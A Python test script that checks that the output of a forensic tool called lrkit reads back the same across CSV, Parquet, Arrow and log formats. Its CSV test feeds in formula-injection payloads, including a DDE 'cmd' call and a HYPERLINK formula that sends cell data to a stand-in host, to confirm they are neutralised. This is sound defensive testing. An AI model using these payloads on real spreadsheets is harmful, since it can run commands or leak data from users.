"""Reads what `lrkit analyze` writes with readers that share nothing with it: the same findings in every form, no formulas, nothing that a terminal would act upon.

    python3 bench/readback/readback.py LRKIT CASE

needs pyarrow and duckdb. LRKIT is the command, CASE a case or folder.
"""

import csv
import datetime
import hashlib
import io
import json
import re
import subprocess
import sys
import tempfile
import unicodedata
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq

FORMATS = ["ndjson", "csv", "arrow", "parquet", "ecs", "timesketch"]
NUMBERS = ["document", "exit_code", "span_start", "span_end", "text_offset", "line", "size", "size_min", "size_max", "command_index", "pid", "parent_pid"]
TEXTS = ["source", "sha256", "script_name", "field", "kind", "value", "normalized", "rule", "confidence", "size_text", "size_join", "hash_md5", "hash_sha1", "hash_sha256",
         "hash_sha512", "hash_join", "platform", "context", "machine", "machine_id", "action_id", "started", "ended", "path", "owner", "signature"]
TIMES = ["started", "ended"]
STACKING = Path(__file__).parent.parent.parent / "docs" / "STACKING.md"

failures = []


def check(ok, text):
    if not ok:
        failures.append(text)
        print("FAIL", text)


def flat(f):
    """A line of NDJSON in the columns of the flat forms."""
    row = {k: f.get(k) for k in NUMBERS + TEXTS}
    row["span_start"], row["span_end"] = f["span"]
    for kind in ["md5", "sha1", "sha256", "sha512"]:
        row["hash_" + kind] = f.get("hashes", {}).get(kind)
    return row


def micros(rfc3339):
    """Microseconds since 1970: no reader of a table has more."""
    if not rfc3339:
        return None
    whole, _, rest = rfc3339.removesuffix("Z").partition(".")
    seconds = datetime.datetime.fromisoformat(whole + "+00:00").timestamp()
    return int(seconds) * 1_000_000 + int(rest[:6].ljust(6, "0"))


def same(name, want, got):
    check(len(want) == len(got), f"{name}: {len(got)} findings, want {len(want)}")
    for i, (a, b) in enumerate(zip(want, got)):
        for column in NUMBERS + TEXTS:
            if (a[column] if a[column] != "" else None) != (b[column] if b[column] != "" else None):
                check(False, f"{name}: finding {i}, {column}: {b[column]!r}, want {a[column]!r}")
                return


def untimed(table):
    """A table with its times as numbers."""
    for column in TIMES:
        i = table.schema.names.index(column)
        table = table.set_column(i, column, table.column(i).cast(pa.int64()))
    return table


STARTS = ["=1+1", "+1", "-1", "@A1", "\uff1dA1", "\uff0b1", "\uff0d1", "\uff20A1", "\ufe66A1", "\u22121", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "'x", "x"]
BLANKS = ["", " ", "\t", "\r", "\n", "\0", "\v", "\x1b", "\x85", "\xa0", "\xad", "\u0301", "\u1680", "\u2003", "\u200b", "\u200f", "\u2028", "\u202e", "\u2060", "\u2800",
          "\u3000", "\ufe0f", "\ufeff", "\U000e0041", " \xa0\u200b ", "a;", "a\t", "a,", 'a";', "a\n"]


def formula(cell):
    """Whether the first character that is seen begins a formula, by Python's tables of Unicode."""
    for c in cell:
        if unicodedata.category(c) not in ("Zs", "Zl", "Zp", "Cc", "Cf", "Mn", "Me") and c != "\u2800":
            return unicodedata.normalize("NFKC", c)[0] in "=+-@\u2212"
    return False


def importer(row):
    """The cells of a row for an importer that divides at commas, semicolons and tabs."""
    cells = re.findall(r'(?:^|[,;\t])("(?:[^"]|"")*"|[^",;\t]*)(?=[,;\t]|$)', row)
    return [c[1:-1].replace('""', '"') if c.startswith('"') else c for c in cells]


def hostile(lrkit, out):
    """Cells that would be formulas: names of scripts, which are printed as they are."""
    names = [blank + start for blank in BLANKS for start in STARTS]
    source = out / "hostile.json"
    source.write_text(json.dumps([{"script_name": name, "exit_code": 0, "script_output": r"C:\Windows\a.exe", "script_errors": ""} for name in names]), "utf-8")
    written = subprocess.run([lrkit, "analyze", "-q", "-f", "csv", source], stdout=subprocess.PIPE).stdout.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    check(len(rows) == len(names), f"hostile: {len(rows)} rows, want {len(names)}")
    for name, row in zip(names, rows):
        cell = row["script_name"]
        guarded = formula(name) or name.startswith(("\t", "\r", "\n", "\0", "'"))
        check(cell.startswith("'") == guarded, f"hostile: {name!r} is written as {cell!r}")
        plain = all(c.isprintable() or c in "\t\r\n" for c in name)
        check(not plain or cell.removeprefix("'") == name, f"hostile: {name!r} is written as {cell!r}")
    one_line = [row for row in written.split("\r\n")[1:-1] if not re.search("[\r\n]", row)]
    check(len(one_line) > len(names) / 2, f"hostile: {len(one_line)} rows on one line")
    for row in one_line:
        cells = importer(row)
        check(len(cells) == len(rows[0]) and not any(map(formula, cells)), f"hostile: divided at commas, semicolons and tabs: {cells}")
    print(f"{len(names)} names of scripts that could be formulas: none is one in CSV")


def in_parts(lrkit, case, out, want, one):
    """Parquet in parts, by both readers: the rows of one file, in order, and the list of the parts."""
    folder = out / "parts"
    code = subprocess.run([lrkit, "analyze", "-q", "-f", "parquet", "-o", folder, "--part-size", "1", case]).returncode
    check(code in (0, 3), f"parts: exit code {code}")
    parts = sorted(folder.glob("part-*.parquet"))
    sums = [hashlib.sha256(p.read_bytes()).hexdigest() for p in parts]
    check(len(parts) > 1, f"{len(parts)} parts")
    check([p.name for p in parts] == [f"part-{i:05d}-{s[:12]}.parquet" for i, s in enumerate(sums)], "parts: other names")
    check((folder / "_SUCCESS").read_text() == "".join(f"{s}  {p.name}\n" for s, p in zip(sums, parts)), "parts: another list")
    rows = [row for p in parts for row in untimed(pq.ParquetFile(p).read()).to_pylist()]
    same("parts by pyarrow", want, rows)
    check(untimed(pq.ParquetFile(one).read()).to_pylist() == rows, "parquet: other rows in parts than in one file")
    found = duckdb.sql(f"select count(*), count(distinct filename) from read_parquet('{folder}/*.parquet', filename=true)").fetchall()
    check(found[0][0] == len(want), f"parts by duckdb: {found}, want {len(want)} rows")
    groups = sum(pq.ParquetFile(p).metadata.num_row_groups for p in parts)
    print(f"{len(parts)} parts with {groups} row groups, the same rows as in one file")


def in_shards(lrkit, case, out, want):
    """Parquet in shards, by both readers: the rows of one file, in any order."""
    folder, n = out / "shards", 3
    for i in range(n):
        code = subprocess.run([lrkit, "analyze", "-q", "--tolerate", "3", "--shard", f"{i}/{n}", "-o", folder, case]).returncode
        check(code == 0, f"shard {i}: exit code {code}")
    listed = dict(line.split("  ")[::-1] for line in (folder / "_SUCCESS").read_text().splitlines())
    parts = sorted(folder.glob("*.parquet"))
    check(listed == {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in parts} and len(parts) == n, "shards: another list")
    rows = [row for p in parts for row in untimed(pq.ParquetFile(p).read()).to_pylist()]
    key = lambda row: [str(row[column]) for column in NUMBERS + TEXTS]
    same("shards by pyarrow", sorted(want, key=key), sorted(rows, key=key))
    found = duckdb.sql(f"select count(*) from '{folder}/*.parquet'").fetchall()
    check(found[0][0] == len(want), f"shards by duckdb: {found}, want {len(want)} rows")
    print(f"{n} shards, the rows of one file between them")


def main(lrkit, case):
    out = Path(tempfile.mkdtemp())
    hostile(lrkit, out)
    for form in FORMATS:
        code = subprocess.run([lrkit, "analyze", "-q", "-f", form, "-o", out / ("findings.parquet" if form == "parquet" else form), case]).returncode
        check(code in (0, 3), f"{form}: exit code {code}")
    want = [flat(json.loads(line)) for line in (out / "ndjson").read_text("utf-8").splitlines()]
    check(len(want) > 100, f"only {len(want)} findings")

    with pa.ipc.open_stream(str(out / "arrow")) as stream:
        table = stream.read_all()
    check(table.schema.metadata[b"lrkit.schema"] == b"lrkit.finding/1", f"arrow: {table.schema.metadata}")
    check(all(f.metadata[b"description"] for f in table.schema), "arrow: a field without a description")
    check(pa.types.is_timestamp(table.schema.field("started").type) and table.schema.field("started").type.tz == "UTC", "arrow: started is no time in UTC")
    timed = [row | {column: micros(row[column]) for column in TIMES} for row in want]
    same("arrow", timed, untimed(table).to_pylist())
    db = duckdb.connect()
    db.execute(f"create view findings as select * from read_parquet('{out / 'findings.parquet'}')")
    cursor = db.execute(f"select * replace ({', '.join(f'epoch_us({column}) as {column}' for column in TIMES)}) from findings")
    names = [d[0] for d in cursor.description]
    same("parquet", timed, [dict(zip(names, row)) for row in cursor.fetchall()])
    check(names == table.schema.names, "arrow and parquet have other columns")
    in_parts(lrkit, case, out, timed, out / "findings.parquet")
    in_shards(lrkit, case, out, timed)

    with open(out / "csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    check(list(rows[0]) == names, "csv has other columns")
    check(len(rows) == len(want), f"csv: {len(rows)} findings, want {len(want)}")
    formulas = 0
    for a, row in zip(want, rows):
        for column, cell in row.items():
            if column not in NUMBERS and (formula(cell) or cell.startswith(("\t", "\r", "\n", "\0"))):
                formulas += 1
        for column in NUMBERS:
            check(str(a[column] if a[column] is not None else "") == row[column], f"csv: {column} is {row[column]}")
        plain = a["value"].isprintable() and not a["value"].startswith(tuple("=+-@'＝＋－＠"))
        check(not plain or a["value"] == row["value"], f"csv: {row['value']!r}, want {a['value']!r}")
    check(formulas == 0, f"csv: {formulas} formulas")

    ecs = [json.loads(line) for line in (out / "ecs").read_text("utf-8").splitlines()]
    check([(a["kind"], a["value"], a["span_start"]) for a in want] == [(e["lrkit"]["kind"], e["lrkit"]["value"], e["lrkit"]["span"][0]) for e in ecs], "ecs has other findings")
    for e in ecs:
        check(e["lrkit"]["kind"] != "file" or e["file"]["path"] and isinstance(e["file"].get("size", 0), int), f"ecs: {e}")

    times = [json.loads(line) for line in (out / "timesketch").read_text("utf-8").splitlines()]
    by_span = {(a["source"], a["document"], a["span_start"], a["value"]) for a in want}
    for t in times:
        check(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d", t["datetime"]) and t["message"] is not None and t["timestamp_desc"], f"timesketch: {t}")
        check(any((t["source"], d, t["span"][0], t["value"]) in by_span for d in range(3)), f"timesketch: no such finding: {t}")
    check(len(times) > 0, "timesketch: nothing")

    acting = 0
    for form in ["ndjson", "csv", "ecs", "timesketch"]:
        data = (out / form).read_bytes()
        acting += len(re.findall(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]", data))
    check(acting == 0, f"{acting} bytes that a terminal would act upon")

    queries = re.findall(r"```sql\n(.*?)```", STACKING.read_text("utf-8"), re.S)
    check(len(queries) > 0, "no query in docs/STACKING.md")
    for query in queries:
        found = db.execute(query.replace("'findings.parquet'", f"'{out / 'findings.parquet'}'")).fetchall()
        check(len(found) > 0, f"nothing for {query}")
        print(f"{len(found)} rows for: {query.strip().splitlines()[0]}")

    print(f"{len(want)} findings, the same in ndjson, csv, arrow, parquet and ecs; {len(times)} lines of timesketch; {formulas} formulas, {acting} bytes that a terminal would act upon")
    sys.exit(1 if failures else 0)


main(*sys.argv[1:])
